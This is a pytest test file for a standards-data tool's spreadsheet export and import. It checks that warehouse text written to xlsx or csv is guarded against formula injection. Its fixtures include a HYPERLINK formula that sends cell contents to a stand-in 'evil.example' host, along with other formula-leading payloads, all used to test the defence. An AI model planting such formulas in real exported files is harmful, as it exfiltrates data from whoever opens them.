"""Class 5 of issue 12: text from the warehouse never becomes a live spreadsheet formula.

xlsx cells holding warehouse text are written as text (data_type "s"); csv cells
that start with = + - @ tab or CR get a leading ' (the OWASP rule), and `jgsw
import` takes it off again, so an export/import round trip changes nothing.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import CliRunner, MiniFactory

TITLES = {
    7: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    8: "+1+2",
    9: "-2+3",
    10: "@SUM(A1:A2)",
    11: "=1+1",
}


def _standard(number: int, title: str) -> str:
    quoted = title.replace("'", "''")
    return (
        f"code: DB50/T {number}-2020\ntitle: '{quoted}'\nlevel: local\ncategory: operation\n"
        "area: vehicles\nitems: [vehicles.quota]\nstatus: published\n"
        "published: 2020-01-01\neffective: 2020-03-01\n"
    )


@pytest.fixture
def hostile(mini: MiniFactory) -> Path:
    files = {
        f"data/standards/vehicles/db50-t-{n}-2020.yaml": _standard(n, t) for n, t in TITLES.items()
    }
    return mini(files).root


def _snapshot(root: Path) -> dict[str, bytes]:
    return {p.as_posix(): p.read_bytes() for p in (root / "data").rglob("*.yaml")}


def test_xlsx_holds_no_live_formula_and_round_trips(
    hostile: Path, cli: CliRunner, tmp_path: Path
) -> None:
    book_path = tmp_path / "out.xlsx"
    assert cli("export", "-o", str(book_path), "--root", str(hostile)).exit_code == 0
    book = openpyxl.load_workbook(book_path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(TITLES.values()) <= texts  # as written, without a quote added
    before = _snapshot(hostile)
    result = cli("import", str(book_path), "--apply", "--root", str(hostile))
    assert result.exit_code == 0, result.stderr
    assert "修改 0 项" in result.stdout and "新增 0 项" in result.stdout
    assert _snapshot(hostile) == before


def test_csv_cells_that_start_a_formula_get_a_leading_quote(hostile: Path, cli: CliRunner) -> None:
    result = cli("export", "-f", "csv", "--root", str(hostile))
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout)))
    titles = {row[1] for row in rows[1:]}
    assert titles == {"'" + t for t in TITLES.values()}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_a_workbook_saved_from_the_csv_imports_back_unchanged(
    hostile: Path, cli: CliRunner, tmp_path: Path
) -> None:
    """Excel opens the csv, the user saves it as xlsx: the quotes are in the cells."""
    result = cli("export", "-f", "csv", "--root", str(hostile))
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "体系明细表"
    for row in csv.reader(io.StringIO(result.stdout)):
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"
    path = tmp_path / "from-csv.xlsx"
    book.save(path)
    before = _snapshot(hostile)
    result = cli("import", str(path), "--apply", "--root", str(hostile))
    assert result.exit_code == 0, result.stderr
    assert "修改 0 项" in result.stdout
    assert _snapshot(hostile) == before


def test_guard_and_unguard_are_inverse_for_every_lead() -> None:
    from jgsw_std.edit.sheet_layout import FORMULA_LEADS, guard_formula, unguard_formula

    for lead in FORMULA_LEADS:
        text = f"{lead}x"
        assert guard_formula(text) == "'" + text
        assert unguard_formula(guard_formula(text)) == text
    assert guard_formula(-5) == -5  # numbers are not text
    assert guard_formula("安全") == "安全"
    assert unguard_formula("'plain") == "'plain"  # a quote not guarding a formula stays


def test_due_csv_guards_warehouse_text() -> None:
    import datetime as dt

    from jgsw_std.app.due import Calendar, OwnerDuties, Section
    from jgsw_std.lifecycle.duties import Duty
    from jgsw_std.output.due import render_csv

    duty = Duty(
        kind="review",
        due=dt.date(2025, 1, 1),
        overdue=False,
        owner="chongqing",
        path="data/standards/vehicles/db50-t-7-2020.yaml",
        key="DB50/T 7-2020",
        label="=HYPERLINK(1)",
    )
    groups = [OwnerDuties("chongqing", "@重庆市", [duty])]
    day = dt.date(2025, 1, 1)
    calendar = Calendar(day, 90, day - dt.timedelta(days=90), [Section("due", groups)], groups)
    rows = list(csv.DictReader(io.StringIO(render_csv(calendar, "zh"))))
    assert rows[0]["label"] == "'=HYPERLINK(1)"
    assert rows[0]["owner_name"] == "'@重庆市"
    assert rows[0]["days_left"] == "0"
